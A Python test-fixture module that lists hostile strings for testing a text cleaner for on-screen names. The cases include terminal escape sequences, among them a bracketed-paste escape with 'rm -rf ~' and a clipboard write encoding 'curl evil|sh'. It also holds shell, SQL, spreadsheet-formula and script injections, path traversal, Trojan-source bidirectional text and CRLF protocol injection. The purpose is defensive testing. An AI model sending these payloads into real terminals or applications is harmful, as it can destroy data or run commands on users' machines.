"""Hostile text: what a peer, an import or a colleague could send to break a terminal, a widget, the wire or the modem.

`CASES` maps a name to a string. `FORBIDDEN` says which characters may never reach a screen, independently of the cleaner:
tests ask both.
"""

from typing import Final

ESC: Final = "\x1b"
ST: Final = "\x1b\\"
BEL: Final = "\x07"


def is_forbidden(char: str, *, line_feeds: bool = False) -> bool:
    """Whether a character may not reach a screen: controls, surrogates, bidirectional controls, tags, noncharacters."""
    point = ord(char)
    if char == "\n":
        return not line_feeds
    return (
        point < 0x20
        or 0x7F <= point <= 0x9F
        or 0xD800 <= point <= 0xDFFF
        or point in _SINGLE_POINTS
        or any(first <= point <= last for first, last in _RANGES)
        or point & 0xFFFE == 0xFFFE
    )


_SINGLE_POINTS: Final = frozenset(
    (0xAD, 0x034F, 0x061C, 0x115F, 0x1160, 0x17B4, 0x17B5, 0x180E, 0x200B, 0x3164, 0xFEFF, 0xFFA0)
)
_RANGES: Final = (
    (0x200E, 0x200F),
    (0x2028, 0x202E),
    (0x2060, 0x206F),
    (0xFDD0, 0xFDEF),
    (0xFFF0, 0xFFFB),
    (0x1D173, 0x1D17A),
    (0xE0000, 0xE00FF),
    (0xE01F0, 0xE0FFF),
)


def _controls() -> dict[str, str]:
    """Each control character alone in a name: C0, DEL, C1."""
    points = [*range(0x20), *range(0x7F, 0xA0)]
    return {f"control U+{point:04X}": f"林{chr(point)}志明" for point in points}


def _sequences() -> dict[str, str]:
    """Terminal sequences: what they would do stands in the name (ECMA-48; xterm control sequences)."""
    return {
        "CSI colour": f"{ESC}[31m紅{ESC}[0m",
        "CSI clear screen": f"{ESC}[2J{ESC}[H",
        "CSI cursor up": f"林{ESC}[9A志明",
        "CSI report position": f"{ESC}[6n",
        "CSI device attributes": f"{ESC}[c{ESC}[>c{ESC}[=c",
        "CSI alternate screen": f"{ESC}[?1049l",
        "CSI mouse on": f"{ESC}[?1003h{ESC}[?1006h",
        "CSI bracketed paste end": f"{ESC}[201~rm -rf ~\n",
        "CSI synchronised output": f"{ESC}[?2026h",
        "CSI kitty keyboard": f"{ESC}[>31u",
        "CSI window title stack": f"{ESC}[21t",
        "CSI resize": f"{ESC}[8;1;1t",
        "CSI unfinished": f"{ESC}[38;2;255",
        "CSI with many parameters": f"{ESC}[" + "1;" * 200 + "m",
        "CSI with a C1 introducer": "\x9b31mred\x9b0m",
        "CSI scroll region": f"{ESC}[1;1r",
        "CSI insert lines": f"{ESC}[999L",
        "CSI erase characters": f"{ESC}[999X",
        "CSI repeat": f"A{ESC}[99999b",
        "OSC 0 title": f"{ESC}]0;owned{BEL}",
        "OSC 2 title": f"{ESC}]2;owned{ST}",
        "OSC 4 palette": f"{ESC}]4;1;#000000{ST}",
        "OSC 7 directory": f"{ESC}]7;file://evil/{ST}",
        "OSC 8 link": f"{ESC}]8;;https://evil.example/{ST}林先生{ESC}]8;;{ST}",
        "OSC 9 notification": f"{ESC}]9;call me{BEL}",
        "OSC 10 colour query": f"{ESC}]10;?{ST}",
        "OSC 52 clipboard write": f"{ESC}]52;c;Y3VybCBldmlsfHNo{BEL}",
        "OSC 52 clipboard read": f"{ESC}]52;c;?{BEL}",
        "OSC 52 with C1": "\x9d52;c;Y3VybCBldmls\x9c",
        "OSC 777 notification": f"{ESC}]777;notify;a;b{ST}",
        "OSC 1337 file": f"{ESC}]1337;File=name=YQ==;inline=1:AAAA{BEL}",
        "OSC unfinished": f"{ESC}]0;no end",
        "DCS request status": f'{ESC}P$q"p{ST}',
        "DCS sixel": f"{ESC}Pq#0;2;0;0;0#0~~@@{ST}",
        "DCS tmux passthrough": f"{ESC}Ptmux;{ESC}{ESC}]0;x{BEL}{ST}",
        "DCS with C1": "\x90q#0\x9c",
        "APC kitty graphics": f"{ESC}_Ga=T,f=100;AAAA{ST}",
        "APC with C1": "\x9fGa=T\x9c",
        "PM": f"{ESC}^private{ST}",
        "PM with C1": "\x9eprivate\x9c",
        "SOS": f"{ESC}Xstring{ST}",
        "SOS with C1": "\x98string\x9c",
        "full reset": f"{ESC}c",
        "index and next line": f"{ESC}D{ESC}E{ESC}M",
        "save and restore cursor": f"{ESC}7{ESC}8",
        "line drawing": f"{ESC}(0lqqk{ESC}(B",
        "shift out": "\x0elqqk\x0f",
        "locking shift": f"{ESC}n{ESC}o{ESC}|",
        "keypad": f"{ESC}={ESC}>",
        "ESC at the end": f"林志明{ESC}",
        "ESC in front of Chinese": f"{ESC}林",
        "answerback": "\x05",
        "backspaces over a name": "陳怡君" + "\x08" * 6 + "林志明",
        "carriage return over a line": "NT$320 欠款\rNT$0       ",
        "flow control": "\x11\x13\x11",
        "DLE of voice modems": "\x10.\x10XCHEN",
    }


def _invisible() -> dict[str, str]:
    """What is drawn as nothing, or turns what is drawn around."""
    points = {
        "left-to-right override": 0x202D,
        "right-to-left override": 0x202E,
        "left-to-right embedding": 0x202A,
        "right-to-left embedding": 0x202B,
        "pop directional formatting": 0x202C,
        "left-to-right isolate": 0x2066,
        "right-to-left isolate": 0x2067,
        "first strong isolate": 0x2068,
        "pop directional isolate": 0x2069,
        "left-to-right mark": 0x200E,
        "right-to-left mark": 0x200F,
        "Arabic letter mark": 0x061C,
        "zero width space": 0x200B,
        "zero width non-joiner": 0x200C,
        "zero width joiner": 0x200D,
        "word joiner": 0x2060,
        "function application": 0x2061,
        "invisible plus": 0x2064,
        "inhibit swapping": 0x206A,
        "nominal digit shapes": 0x206F,
        "byte order mark": 0xFEFF,
        "soft hyphen": 0x00AD,
        "combining grapheme joiner": 0x034F,
        "Mongolian vowel separator": 0x180E,
        "Khmer inherent vowel": 0x17B4,
        "Hangul choseong filler": 0x115F,
        "Hangul jungseong filler": 0x1160,
        "Hangul filler": 0x3164,
        "half-width Hangul filler": 0xFFA0,
        "empty Braille pattern": 0x2800,
        "line separator": 0x2028,
        "paragraph separator": 0x2029,
        "interlinear annotation anchor": 0xFFF9,
        "interlinear annotation separator": 0xFFFA,
        "interlinear annotation terminator": 0xFFFB,
        "musical begin beam": 0x1D173,
        "null notehead": 0x1D159,
        "shorthand format overlap": 0x1BCA0,
        "language tag": 0xE0001,
        "tag letter": 0xE0061,
        "cancel tag": 0xE007F,
        "noncharacter in the block of Arabic forms": 0xFDD0,
        "noncharacter at the end of plane 0": 0xFFFE,
        "noncharacter at the end of plane 2": 0x2FFFE,
        "last noncharacter of plane 3": 0x3FFFF,
        "last code point": 0x10FFFF,
        "unassigned in plane 0": 0x0378,
        "unassigned in plane 14": 0xE0FFF,
        "unassigned in plane 5": 0x50000,
    }
    cases = {name: f"林{chr(point)}志明" for name, point in points.items()}
    cases["Trojan source"] = "user\u202e \u2066// admin\u2069 \u2066"
    cases["reversed amount"] = "應收 \u202e023$TN"
    cases["tags that spell a command"] = "林" + "".join(chr(0xE0000 + ord(char)) for char in "quit") + "志明"
    cases["only invisible"] = "\u200b\u2060\ufeff\u3164\u115f"
    return cases


def _floods() -> dict[str, str]:
    """Far more of something than any name has."""
    return {
        "zalgo": "林" + "\u0336\u0489\u0352\u0308" * 100 + "志明",
        "zalgo through joiners": "林" + ("\u0301" * 8 + "\u200d") * 50,
        "joiner flood": "林" + "\u200d" * 400 + "明",
        "non-joiner flood": "م" + "\u200c" * 400 + "ن",
        "variation selector flood": "葛" + "\ufe00" * 300,
        "ideographic variation flood": "葛" + "\U000e0100" * 300,
        "Hangul vowel flood": "\u1100" + "\u1161" * 400,
        "Hangul final flood": "\u1100\u1161" + "\ud7cb" * 400,
        "enclosing flood": "林" + "\u20dd" * 300,
        "mark first": "\u0336林",
        "enclosing circle first": "\u20dd" * 3 + "x",
        "joiner first": "\u200d林",
        "joiner last": "林\u200d",
        "variation selector first": "\ufe0f林",
        "mark after a line feed": "林\n\u0336志明",
        "emoji flood": "👩‍👩‍👧‍👦" * 300,
        "skin tone flood": "👍" + "🏿" * 300,
        "regional indicator flood": "🇹🇼" * 400,
        "very long Chinese": "陳" * 20_000,
        "very long ASCII": "A" * 200_000,
        "very long of nothing": "\u200b" * 100_000,
        "long word without a break": "W" * 499 + "漢",
        "wide at the cut": "A" * 499 + "漢字",
        "mark at the cut": "A" * 500 + "\u0301",
        "line feeds": "\n" * 20_000,
        "carriage returns": "\r" * 5_000,
        "mixed line ends": "一\r\n二\r三\n四\x0b五\x0c六\x85七\u2028八\u2029九",
        "tabs": "\t" * 500,
        "spaces": " " * 5_000,
        "ideographic spaces": "\u3000" * 500,
        "deep brackets": "[" * 5_000,
        "deep JSON": "[" * 3_000 + "]" * 3_000,
    }


def _markup() -> dict[str, str]:
    """What a widget, a format string, a file, a shell, SQL or a spreadsheet could take for its own."""
    texts = (
        "A[/]Z", "[@click=app.quit]x[/]", "[@click='app.bell']x[/]", "[@click=screen.dismiss]x", "[/]", "[/red]",
        "[red]x", "[b]", "[", "]", "\\[", "\\[/]", "[[/]]", "[on red]x[/on red]",
        "[link=https://evil.example]x[/link]", "[link='file:///etc/passwd']林[/]", "[$error]x", "[bold",
        "[#ff0000]x[/#ff0000]", "[林]", "[會員]志明[/會員]", ":warning:", ":smile:", "{name}", "{0}", "{}", "{{",
        "}", "{name.__class__.__mro__}", "%s%s%n", "%(name)s", "${HOME}", "$(reboot)", "`reboot`", "$error",
        "; rm -rf ~", "| cat /etc/passwd", "&& reboot", "' OR '1'='1", "'; DROP TABLE member; --", '" OR ""="', "%",
        "_", "*", "a* NEAR b", '"unclosed', "../../etc/passwd", "C:\\CON", "file:///etc/passwd", "=1+1",
        "=cmd|' /C calc'!A0", "+886912345678", "-1+1", "@SUM(A1)", "\t=1+1", "<b>x</b>", "<script>alert(1)</script>",
        "<!--", "]]>", "&lt;", "&#27;[2J", "\\x1b[2J", "\\u001b", "\\e[2J", "^[[2J", "\\", "\\\\", "\\n", '"', "'",
        "null", "None", "true", "NaN", "0", "-0", "1e999", "undefined", "*DATE*11222026*TIME*1338*",
        "###DATE11221338...", "ATZ", "+++", "+++ATH", "NMBR = 0912345678", "RING", "NAME=O", "Event: Hangup",
        "name\r\nEvent: Newchannel", "a\r\n\r\nAction: Originate", "GET / HTTP/1.1\r\nHost: x\r\n\r\n",
        "INVITE sip:a@b SIP/2.0\r\n", '"><sip:evil@example>', "sip:%00@host", "a;b=c", "user:password",
    )  # fmt: skip
    return {f"markup {number:03d}": text for number, text in enumerate(texts)}


def _surrogates() -> dict[str, str]:
    """Half characters: what `surrogateescape` makes of bytes that are no UTF-8, and JSON's lone escapes."""
    return {
        "lone high surrogate": "林\ud800志明",
        "lone low surrogate": "林\udc00志明",
        "reversed pair": "\udc00\ud800",
        "pair that was never joined": "\ud83d\ude00",
        "surrogate first": "\udfff林",
        "surrogate last": "林\ud800",
        "surrogate flood": "\ud800" * 1_000,
        "Big5 read as bytes": b"\xb3\xaf\xa4p\xa9j".decode("utf-8", "surrogateescape"),
        "Latin-1 read as bytes": b"V\xe4h\xe4l\xe4".decode("utf-8", "surrogateescape"),
        "overlong slash read as bytes": b"..\xc0\xaf..".decode("utf-8", "surrogateescape"),
        "C1 read as bytes": b"\x9b31m".decode("utf-8", "surrogateescape"),
        "CESU-8 read as bytes": b"\xed\xa0\xbd\xed\xb8\x80".decode("utf-8", "surrogateescape"),
    }


def _mojibake() -> dict[str, str]:
    """Text that went through the wrong code page: full of C1 controls."""
    return {
        "UTF-8 as Latin-1": "林志明".encode().decode("latin-1"),
        "UTF-8 as Latin-1, twice": "林志明".encode().decode("latin-1").encode().decode("latin-1"),
        "Big5 as Latin-1": "陳小姐".encode("big5").decode("latin-1"),
        "all bytes as Latin-1": bytes(range(256)).decode("latin-1"),
        "UTF-16 as Latin-1": "林志明".encode("utf-16").decode("latin-1"),
        "replacement characters": b"\xb3\xaf\xa4p\xa9j".decode("utf-8", "replace"),
    }


HARMLESS: Final[tuple[str, ...]] = (
    "林志明", "歐陽娜娜", "范姜群", "張簡宏斌", "瓦歷斯·諾幹", "瓦歷斯‧諾幹", "𠮷野家", "𡍼志明", "𧿹", "𰻝麵", "鿿",
    "㐂壽司", "﨑山", "葛\U000e0100城", "游錫堃", "黃（阿明）", "大同股份有限公司", "０９１２－３４５－６７８",
    "（０２）２６９８－２９８９　分機１２３", "NT$320 欠款", "您好，請稍候。「是的」……——", "ㄌㄧㄣˊ ㄓˋ ㄇㄧㄥˊ",
    "Nguyễn Thị Hoa", "Zoë Müller", "Łukasz Żółć", "Ελένη", "Иван Петрович", "山田 太郎", "さくら", "ガンバル",
    "김민수", "สมชาย", "नमस्ते", "محمد", "שלום", "José\u0301", "e\u0301", "👩‍👩‍👧‍👦", "👍🏽", "1️⃣", "🇹🇼",
    "☎ 0912-345-678", "台\ue000灣", "A\U000f0001Z", "x²", "½", "①②③", "〇一二三", "々", "Mr O'Brien-Smith",
    "C++ & D#", "100 %", "～", "·", "\u3000林",
)  # fmt: skip
"""Names and notes as people write them, with rare Han characters, private-use ones and emoji: no cleaner may change them."""


CASES: Final[dict[str, str]] = {
    **_controls(),
    **_sequences(),
    **_invisible(),
    **_floods(),
    **_markup(),
    **_surrogates(),
    **_mojibake(),
}
"""Name -> hostile string."""
